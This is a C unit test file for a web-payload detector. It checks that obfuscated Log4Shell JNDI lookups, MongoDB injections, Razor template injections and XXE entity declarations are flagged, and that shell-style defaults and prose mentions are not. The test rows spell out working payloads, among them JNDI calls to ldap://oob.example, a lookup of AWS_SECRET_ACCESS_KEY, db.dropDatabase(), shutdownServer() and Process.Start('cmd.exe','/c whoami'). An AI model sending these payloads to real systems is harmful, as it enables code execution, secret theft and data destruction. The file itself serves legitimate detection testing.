/* test_payload_rte4.c - issue 20, helper e (session 17): the closing
 * note's JNDI kill on a shell default, and the fresh table's misses and
 * look-alikes (NoSQL, Razor, XML character references), one
 * row per construct. Every value is judged as a query parameter value
 * (payload_scan) and as a form body "a=1&q=<percent-encoded value>"
 * (payload_scan_query): an attack must draw its own kind in both, a
 * benign value nothing in either. */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>
#include <string.h>

#include "collector/detect/payload.h"

#include "tests/unit/payload_rt_table.h"

#define J PAYLOAD_JNDI
#define S PAYLOAD_NOSQLI
#define T PAYLOAD_SSTI
#define N PAYLOAD_NONE

/* the highest score of kind k for v as a query value */
static int top(const char *v, enum payload_kind k)
{
	struct payload_match m[PAYLOAD__COUNT];
	int n = payload_scan(v, strlen(v), PAYLOAD_WHERE_QUERY, m, PAYLOAD__COUNT), best = 0;

	for (int i = 0; i < n; i++)
		if (m[i].kind == k && m[i].score > best)
			best = m[i].score;
	return best;
}

/* ${NAME:-default} is the variable NAME with a default, in log4j as in a
 * shell (StrSubstitutor splits at ":-" before it looks for a prefix):
 * no lookup, even when NAME spells one (note17: jndi 75) */
static void test_jndi_shell_default(void **st)
{
	static const struct rtcase t[] = {
		{"x=1; ${DOCKER:-\"docker\"} compose up -d", N},
		{"${DOCKER:-docker} build .", N},
		{"echo ${ENV:-production}", N},
		{"LOG=${SYS:-/var/log}/app.log", N},
		{"${JAVA:-java} -jar app.jar", N},
		{"url: ${URL:-http://localhost}", N},
		{"${SPRING:-boot}", N},
		/* kept: the lookups and their obfuscations */
		{"${${env:BARFOO:-j}ndi${env:BARFOO:-:}ldap://oob.example/a}", J},
		{"${${env:-j}ndi:ldap://oob.example/a}", J},
		{"${${docker:-j}ndi:ldap://oob.example/a}", J},
		{"${${::-j}ndi:ldap://oob.example/a}", J},
		{"${env::-j}", J},
		{"${env:AWS_SECRET_ACCESS_KEY}", J},
		{"${docker:containerId}", J},
		{"${sys:user.home}", J},
	};
	(void)st;
	rt_run("jndi", t, sizeof(t) / sizeof(t[0]));
}

/* the mongo shell's calls: code after a statement break, a quote in a
 * forum post without one */
static void test_nosql_shell(void **st)
{
	static const struct rtcase t[] = {
		{"';db.dropDatabase();'", S},
		{"'; db.getSiblingDB('admin').shutdownServer(); var x='", S},
		{"1;sleep(5000)", S},
		{"x'; db.users.deleteMany({}); '", S},
	};
	(void)st;
	rt_run("nosqli", t, sizeof(t) / sizeof(t[0]));
	assert_true(top("';db.dropDatabase();'", S) >= 60);
	assert_true(top("x'; db.users.deleteMany({}); '", S) >= 60);
	/* a how-to's query: a finding, not a kill */
	assert_true(top("db.users.find({ age: { $gt: 18 } })", S) < 60);
	assert_true(top("In the shell, db.orders.aggregate([{ $match: {} }]) is slow", S) < 60);
	assert_true(top("use admin; db.createUser({user: \"a\", pwd: \"b\", roles: []})", S) < 60);
	assert_true(top("1; db.users.drop()", S) >= 60);
}

/* Razor code reaching files, the environment or reflection, opened by
 * '@' (@System..., @{ }, @( ), a helper's argument), told below the kill
 * line (a layout reads its version and environment so); .NET named in
 * prose without Razor's '@' is not */
static void test_ssti_razor_system(void **st)
{
	static const struct rtcase t[] = {
		{"@System.IO.Directory.GetFiles(\"C:\\\\\")", T},
		{"@Html.Raw(System.IO.File.ReadAllText(\"C:\\\\Windows\\\\win.ini\"))", T},
		{"@{ var x = System.Environment.GetEnvironmentVariable(\"PATH\"); }", T},
		{"@(System.Reflection.Assembly.GetExecutingAssembly().Location)", T},
		{"@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")", T},
		{"Use System.IO.File.ReadAllText(path) to read the file", N},
		{"mail me @ home about System.IO.File.Copy(a, b)", N},
		{"@Model.Name uses System.IO.File", N},
		{"@System.IO.File is the class that reads files", N},
	};
	(void)st;
	rt_run("ssti", t, sizeof(t) / sizeof(t[0]));
	assert_true(top("@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")", T) >= 60);
	assert_true(top("@System.Reflection.Assembly.GetEntryAssembly()?.GetName().Version", T) < 60);
	assert_true(top("@System.Environment.GetEnvironmentVariable(\"ASPNETCORE_ENVIRONMENT\")", T) < 60);
}

/* the highest XXE score for body as an XML body */
static int top_xml(const char *body)
{
	struct payload_match m[PAYLOAD__COUNT];
	int n = payload_scan_xml(body, strlen(body), m, PAYLOAD__COUNT), best = 0;

	for (int i = 0; i < n; i++)
		if (m[i].kind == PAYLOAD_XXE && m[i].score > best)
			best = m[i].score;
	return best;
}

/* an internal entity's character reference (&#160;) declares no entity
 * from others; &#37; and &#x3c; do, once the entity is used */
static void test_xxe_charref(void **st)
{
	(void)st;
	/* a declaration naming one character is told at 50 (r10t); the
	 * internal subset around it is the doctype rule's 65 */
	assert_int_equal(top_xml("<!DOCTYPE html [<!ENTITY nbsp \"&#160;\">]><html/>"), 65);
	assert_int_equal(top_xml("<!DOCTYPE r [<!ENTITY e \"&#xE9;\">]><r>&e;</r>"), 65);
	assert_int_equal(top_xml("<!DOCTYPE r [<!ENTITY % a \"&#x25;b;\">]><r/>"), 90);
	assert_int_equal(top_xml("<!DOCTYPE r [<!ENTITY a \"&#60;x\">]><r/>"), 90);
	assert_int_equal(top_xml("<!DOCTYPE r [<!ENTITY a \"&b;\">]><r/>"), 90);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_jndi_shell_default),
		cmocka_unit_test(test_nosql_shell),
		cmocka_unit_test(test_ssti_razor_system),
		cmocka_unit_test(test_xxe_charref),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
